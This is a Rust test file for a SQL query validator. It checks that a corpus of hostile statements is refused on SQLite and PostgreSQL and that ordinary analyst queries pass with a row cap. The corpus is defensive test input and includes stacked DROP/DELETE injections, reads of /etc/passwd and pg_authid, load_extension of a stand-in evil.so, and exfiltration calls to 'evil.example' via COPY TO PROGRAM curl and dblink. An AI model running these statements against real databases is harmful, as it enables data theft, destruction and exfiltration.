//! The hostile-statement corpus: every entry is refused on both engines,
//! for the reason it names, and the statements an analyst writes pass,
//! rewritten to the physical table with the row cap applied.

use super::{Engine, Rule, Target, ValidatedQuery, validate};

const PG_TABLE: &str = "alatar_datasets.\"ds_0123456789abcdef0123456789abcdef\"";

fn target(engine: Engine) -> Target<'static> {
    let physical = match engine {
        Engine::Sqlite => "data",
        Engine::Postgres => PG_TABLE,
    };
    Target { engine, dataset_name: "spend", physical, row_cap: 100 }
}

const BOTH: [Engine; 2] = [Engine::Sqlite, Engine::Postgres];

/// `sql` is refused on `engines`, for one of `rules` (engines whose parser
/// cannot read a construct at all refuse it as `SYNTAX`, listed then).
fn refused_on(engines: &[Engine], sql: &str, rules: &[Rule]) {
    for &engine in engines {
        match validate(sql, &target(engine)) {
            Ok(ok) => panic!("{engine:?} accepted {sql:?} as {:?}", ok.executed()),
            Err(refusal) => {
                assert!(rules.contains(&refusal.rule), "{engine:?} refused {sql:?} as {refusal}, expected {rules:?}");
                assert!(!refusal.detail.is_empty());
                assert!(refusal.to_string().starts_with(refusal.rule.code()), "{refusal}");
            }
        }
    }
}

fn refused(sql: &str, rules: &[Rule]) {
    refused_on(&BOTH, sql, rules);
}

fn accepted(engine: Engine, sql: &str) -> ValidatedQuery {
    validate(sql, &target(engine)).unwrap_or_else(|refusal| panic!("{engine:?} refused {sql:?}: {refusal}"))
}

use Rule::*;

#[test]
fn stacked_statements_are_refused_however_they_are_hidden() {
    refused("SELECT * FROM data; DROP TABLE data", &[MultipleStatements]);
    refused("SELECT 1; SELECT 2", &[MultipleStatements]);
    refused("SELECT * FROM data;; DELETE FROM data", &[MultipleStatements]);
    refused("SELECT * FROM data /* hidden */; DROP TABLE data", &[MultipleStatements]);
    refused("SELECT * FROM data -- a comment\n; DELETE FROM data", &[MultipleStatements]);
    refused("SELECT * FROM \"data\"; SELECT 1", &[MultipleStatements]);
    refused("BEGIN; DELETE FROM data; COMMIT", &[MultipleStatements]);
    refused("SELECT 'a'';DROP TABLE data;--' FROM data; DROP TABLE data", &[MultipleStatements]);
}

#[test]
fn statements_that_are_not_queries_are_refused() {
    refused("DROP TABLE data", &[NotAQuery]);
    refused("/* ; */ DROP TABLE data", &[NotAQuery]);
    refused("CREATE TABLE stolen AS SELECT * FROM data", &[NotAQuery]);
    refused("EXPLAIN ANALYZE DELETE FROM data", &[NotAQuery, Syntax]);
    refused("ATTACH DATABASE '/tmp/x.db' AS x", &[NotAQuery, Syntax]);
    refused("PRAGMA writable_schema = 1", &[NotAQuery, Syntax]);
    refused("COPY data TO '/tmp/out.csv'", &[NotAQuery, Syntax]);
    refused("COPY (SELECT * FROM data) TO PROGRAM 'curl evil.example'", &[NotAQuery, Syntax]);
    refused("SET ROLE postgres", &[NotAQuery, Syntax]);
    refused("VACUUM INTO '/tmp/copy.db'", &[NotAQuery, Syntax]);
    refused("GRANT SELECT ON data TO PUBLIC", &[NotAQuery, Syntax]);
}

#[test]
fn writes_are_refused_also_inside_with() {
    refused("DELETE FROM data", &[DataModifying]);
    refused("UPDATE data SET spend = 0", &[DataModifying]);
    refused("INSERT INTO data (spend) VALUES (1)", &[DataModifying]);
    refused("WITH gone AS (DELETE FROM data RETURNING *) SELECT * FROM gone", &[DataModifying, Syntax]);
    refused("WITH x AS (INSERT INTO data (spend) VALUES (1) RETURNING 1) SELECT * FROM x", &[DataModifying, Syntax]);
    refused("WITH x AS (UPDATE data SET spend = 0 RETURNING *) SELECT * FROM x", &[DataModifying, Syntax]);
    refused("SELECT * INTO stolen FROM data", &[Into, Syntax]);
    refused("SELECT * FROM data FOR UPDATE", &[Locking, Syntax]);
    refused("SELECT * FROM data FOR SHARE", &[Locking, Syntax]);
}

#[test]
fn other_tables_and_other_accounts_are_refused() {
    refused("SELECT * FROM users", &[OtherTable]);
    refused("SELECT * FROM data JOIN users ON true", &[OtherTable]);
    refused("SELECT * FROM data UNION SELECT * FROM users", &[OtherTable]);
    refused("SELECT (SELECT count(*) FROM users) FROM data", &[OtherTable]);
    refused("SELECT * FROM data WHERE EXISTS (SELECT 1 FROM accounts)", &[OtherTable]);
    refused("SELECT * FROM public.accounts", &[OtherTable]);
    refused("SELECT * FROM main.data", &[OtherTable]);
    // The dataset's own physical name and another account's.
    refused("SELECT * FROM alatar_datasets.ds_0123456789abcdef0123456789abcdef", &[OtherTable]);
    refused("SELECT * FROM alatar_datasets.\"ds_ffffffffffffffffffffffffffffffff\"", &[OtherTable]);
    // A common table expression is in scope after its definition only.
    refused("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", &[OtherTable]);
    refused_on(&[Engine::Sqlite], "SELECT * FROM `users`", &[OtherTable]);
}

#[test]
fn system_catalogs_are_refused() {
    refused("SELECT * FROM pg_catalog.pg_authid", &[SystemCatalog]);
    refused("SELECT * FROM pg_shadow", &[SystemCatalog]);
    refused("SELECT * FROM information_schema.tables", &[SystemCatalog]);
    refused("SELECT * FROM sqlite_master", &[SystemCatalog]);
    refused("SELECT name FROM sqlite_schema", &[SystemCatalog]);
    refused("SELECT * FROM data NATURAL JOIN sqlite_temp_master", &[SystemCatalog]);
    refused("SELECT * FROM data WHERE campaign IN (SELECT usename FROM pg_user)", &[SystemCatalog]);
    refused("WITH pg_class AS (SELECT 1) SELECT * FROM pg_class", &[CteName]);
    refused("WITH data AS (SELECT 1 AS x) SELECT * FROM data", &[CteName]);
    refused_on(&[Engine::Sqlite], "SELECT * FROM [sqlite_master]", &[SystemCatalog]);
}

#[test]
fn functions_outside_the_allow_list_are_refused() {
    refused("SELECT pg_read_file('/etc/passwd')", &[Function]);
    refused("SELECT pg_sleep(10)", &[Function]);
    refused("SELECT count(*) FROM data WHERE pg_sleep(1) IS NULL", &[Function]);
    refused("SELECT lo_import('/etc/passwd')", &[Function]);
    refused("SELECT load_extension('/tmp/evil.so')", &[Function]);
    refused("SELECT current_setting('is_superuser')", &[Function]);
    refused("SELECT set_config('search_path', 'public', false)", &[Function]);
    refused("SELECT version()", &[Function]);
    refused("SELECT txid_current()", &[Function]);
    refused("SELECT randomblob(1000000000)", &[Function]);
    refused("SELECT zeroblob(1000000000)", &[Function]);
    refused("SELECT repeat('x', 1000000000)", &[Function]);
    refused("SELECT fts3_tokenizer('simple')", &[Function]);
    refused("SELECT query_to_xml('select * from users', true, true, '')", &[Function]);
    refused("SELECT count(*) FROM data WHERE campaign = (SELECT current_setting('x'))", &[Function]);
    // Qualified or quoted, an allowed name is still refused.
    refused("SELECT pg_catalog.lower(campaign) FROM data", &[Function]);
    refused("SELECT \"pg_sleep\"(1)", &[Function]);
    refused("SELECT \"lower\"(campaign) FROM data", &[Function]);
    refused_on(&[Engine::Postgres], "SELECT current_user", &[Function]);
    refused_on(&[Engine::Postgres], "SELECT current_role FROM data", &[Function]);
    // Another engine's functions name the engine.
    refused_on(&[Engine::Sqlite], "SELECT date_trunc('month', day) FROM data", &[Function]);
    refused_on(&[Engine::Postgres], "SELECT strftime('%Y', day) FROM data", &[Function]);
}

#[test]
fn table_functions_are_refused() {
    refused("SELECT * FROM generate_series(1, 1000000000)", &[TableFunction]);
    refused("SELECT * FROM dblink('host=evil.example', 'select 1') AS t(x int)", &[TableFunction, Syntax]);
    refused("SELECT * FROM pragma_table_info('data')", &[TableFunction]);
    refused("SELECT * FROM json_each('[1,2]')", &[TableFunction]);
}

#[test]
fn quoting_tricks_and_odd_literals_are_refused() {
    refused("SELECT * FROM data WHERE campaign = $1", &[Literal, Syntax]);
    refused("SELECT * FROM data WHERE campaign = ?", &[Literal, Syntax]);
    refused("SELECT $$;DROP TABLE data$$ FROM data", &[Literal, Syntax, MultipleStatements]);
    refused("SELECT E'\\'; DROP TABLE data; --' FROM data", &[Literal, Syntax, MultipleStatements]);
    refused("SELECT U&'\\0041' FROM data", &[Literal, Syntax, Construct]);
    refused("SELECT X'41' FROM data", &[Literal, Syntax]);
    refused("SELECT CAST(campaign AS regclass) FROM data", &[Type]);
    refused("SELECT 'pg_authid'::regclass", &[Type, Syntax, Construct]);
    refused("SELECT CAST(campaign AS json) FROM data", &[Type]);
}

#[test]
fn other_constructs_are_refused_by_name() {
    refused("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r", &[Recursive]);
    refused("SELECT * FROM data LIMIT (SELECT 1)", &[Limit]);
    refused("SELECT * FROM data LIMIT 10 OFFSET -1", &[Limit]);
    refused("SELECT * FROM data TABLESAMPLE BERNOULLI (10)", &[Construct, Syntax]);
    refused("TABLE data", &[Construct, Syntax]);
    refused("SELECT * FROM data, LATERAL (SELECT 1) AS x", &[Construct, Syntax]);
    refused("VALUES (1), (2)", &[Construct]);
    // SQLite reads `ARRAY[1, 2]` as a column `ARRAY` with a bracket-quoted
    // alias, which is harmless (no such column); PostgreSQL's array is refused.
    refused_on(&[Engine::Postgres], "SELECT ARRAY[1, 2]", &[Construct, Syntax]);
    refused("SELECT a.b.c FROM data", &[Construct]);
    refused_on(&[Engine::Postgres], "WITH \"T\" AS (SELECT 1) SELECT * FROM t", &[OtherTable]);
}

#[test]
fn sizes_and_syntax_are_bounded() {
    refused("", &[Empty]);
    refused("  ;  ", &[Empty]);
    refused(&format!("SELECT '{}'", "x".repeat(super::MAX_SQL_BYTES)), &[TooLong]);
    refused(&format!("SELECT {}1 FROM data", "1+".repeat(3_000)), &[TooComplex]);
    refused(&format!("SELECT {}1{}", "(".repeat(300), ")".repeat(300)), &[Syntax, TooComplex]);
    refused("SELEC * FROM data", &[Syntax]);
    refused("SELECT * FROM data WHERE campaign = 'unterminated", &[Syntax]);
    // Deep, but within the token bound: the walker's own depth bound.
    let deep = format!("SELECT * FROM data WHERE {}", vec!["spend = 1"; 400].join(" OR "));
    refused(&deep, &[TooComplex]);
}

#[test]
fn the_table_is_rewritten_and_the_cap_applied() {
    let sqlite = accepted(Engine::Sqlite, "SELECT * FROM data");
    assert_eq!(sqlite.executed(), "SELECT * FROM data LIMIT 101");
    assert_eq!(sqlite.sql(), "SELECT * FROM data");
    let pg = accepted(Engine::Postgres, "SELECT * FROM data");
    assert_eq!(pg.executed(), format!("SELECT * FROM {PG_TABLE} AS data LIMIT 101"));
    assert_eq!(pg.sql(), "SELECT * FROM data");

    for engine in BOTH {
        let capped = accepted(engine, "SELECT * FROM data LIMIT 100000");
        assert!(capped.executed().ends_with("LIMIT 101"), "{}", capped.executed());
        assert!(capped.sql().ends_with("LIMIT 100000"), "{}", capped.sql());
        let own = accepted(engine, "SELECT * FROM data LIMIT 10 OFFSET 5");
        assert!(own.executed().ends_with("LIMIT 10 OFFSET 5"), "{}", own.executed());
        let lower = "select campaign, sum(spend) as total from DATA group by campaign order by total desc limit 5";
        let grouped = accepted(engine, lower);
        assert!(grouped.executed().ends_with("LIMIT 5"), "{}", grouped.executed());
        // The dataset's own name works as its table's name.
        let named = accepted(engine, "SELECT \"spend\".campaign FROM \"spend\"");
        assert!(named.executed().contains("campaign FROM"), "{}", named.executed());
    }
    let named = accepted(Engine::Postgres, "SELECT \"spend\".campaign FROM \"spend\"");
    assert!(named.executed().contains(&format!("FROM {PG_TABLE} AS \"spend\"")), "{}", named.executed());
    let fetch = accepted(Engine::Postgres, "SELECT * FROM data FETCH FIRST 3 ROWS ONLY");
    assert!(fetch.executed().ends_with("LIMIT 3"), "{}", fetch.executed());
}

#[test]
fn what_an_analyst_writes_passes() {
    let queries = [
        "SELECT ';DROP TABLE data' AS s FROM data",
        "SELECT * FROM data -- ; DROP TABLE data",
        "SELECT * FROM data /* ; DELETE FROM data */ WHERE spend > 1",
        "WITH t AS (SELECT campaign, spend FROM data) SELECT campaign FROM t UNION SELECT campaign FROM data",
        "SELECT d.campaign FROM data AS d JOIN data AS e ON d.campaign = e.campaign",
        "SELECT campaign, rank() OVER (ORDER BY sum(spend) DESC) FROM data GROUP BY campaign",
        "SELECT count(DISTINCT campaign) FILTER (WHERE spend > 0) FROM data",
        "SELECT CASE WHEN spend > 10 THEN 'big' ELSE 'small' END, COALESCE(campaign, '?') FROM data \
         WHERE campaign LIKE 'S%' AND day BETWEEN '2026-01-01' AND '2026-12-31'",
        "SELECT 1 + 1",
        "SELECT campaign, avg(spend) FROM data GROUP BY campaign HAVING count(*) > 2 ORDER BY 2 DESC",
        "SELECT * FROM (SELECT campaign, sum(spend) AS s FROM data GROUP BY campaign) AS t WHERE s > 10",
        "SELECT lower(trim(campaign)), round(CAST(spend AS REAL), 2) FROM data WHERE spend IS NOT NULL",
        "SELECT campaign FROM data WHERE campaign IN ('Spring', 'Summer') AND NOT spend < 0",
    ];
    for engine in BOTH {
        for sql in queries {
            let ok = accepted(engine, sql);
            // What hides in a comment is gone from what runs.
            if sql.contains("--") || sql.contains("/*") {
                assert!(!ok.executed().contains("DROP") && !ok.executed().contains("DELETE"), "{}", ok.executed());
            }
            if engine == Engine::Postgres && sql.contains("FROM data") {
                assert!(ok.executed().contains(PG_TABLE), "{}", ok.executed());
            }
        }
    }
    // Comments are gone from what runs; a `;` inside a string stays there.
    let quoted = accepted(Engine::Postgres, "SELECT ';DROP TABLE data' AS s FROM data");
    assert!(quoted.executed().starts_with("SELECT ';DROP TABLE data' AS s FROM"), "{}", quoted.executed());
    accepted(Engine::Postgres, "SELECT date_trunc('month', day) AS month, sum(spend) FROM data GROUP BY 1 ORDER BY 1");
    accepted(Engine::Postgres, "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY spend) FROM data");
    accepted(Engine::Postgres, "SELECT CAST(day AS DATE) - INTERVAL '30 days', day::date FROM data");
    accepted(Engine::Sqlite, "SELECT strftime('%Y-%m', day), total(spend) FROM data GROUP BY 1");
    accepted(Engine::Sqlite, "WITH \"T\" AS (SELECT 1 AS x) SELECT * FROM t");
}
